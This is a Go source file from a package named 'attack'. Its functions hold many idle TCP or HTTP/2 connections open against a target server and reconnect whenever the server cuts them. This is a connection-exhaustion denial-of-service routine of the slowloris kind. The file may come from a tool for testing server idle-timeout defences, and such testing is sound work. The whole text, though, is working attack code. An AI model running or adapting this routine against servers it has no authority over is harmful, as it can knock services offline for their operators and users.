package attack

import (
	"context"
	"io"
	"sync"

	"golang.org/x/net/http2"
)

// IdleConns opens n connections that send nothing after connecting (with
// http2, nothing after the client preface and SETTINGS) and counts them in
// p as started and, when the server closes them, cut off. It returns when
// ctx ends or, without reconnect, when the server has closed them all;
// with reconnect, each closed connection is replaced.
func IdleConns(ctx context.Context, addr string, n int, useHTTP2, reconnect bool, p *Progress) {
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			for idleConn(ctx, addr, useHTTP2, p) && reconnect && ctx.Err() == nil {
			}
		})
	}
	wg.Wait()
}

// idleConn holds one connection; true when the server closed it.
func idleConn(ctx context.Context, addr string, useHTTP2 bool, p *Progress) bool {
	conn, retry := dial(ctx, addr)
	if conn == nil {
		return retry
	}
	defer conn.Close()
	if useHTTP2 {
		fr := http2.NewFramer(conn, conn)
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return false
		}
		if err := fr.WriteSettings(); err != nil {
			return false
		}
	}
	p.started.Add(1)
	closed := make(chan struct{})
	go func() {
		_, _ = io.Copy(io.Discard, conn) // the server's SETTINGS, then EOF when it closes
		close(closed)
	}()
	return waitCut(ctx, closed, p)
}
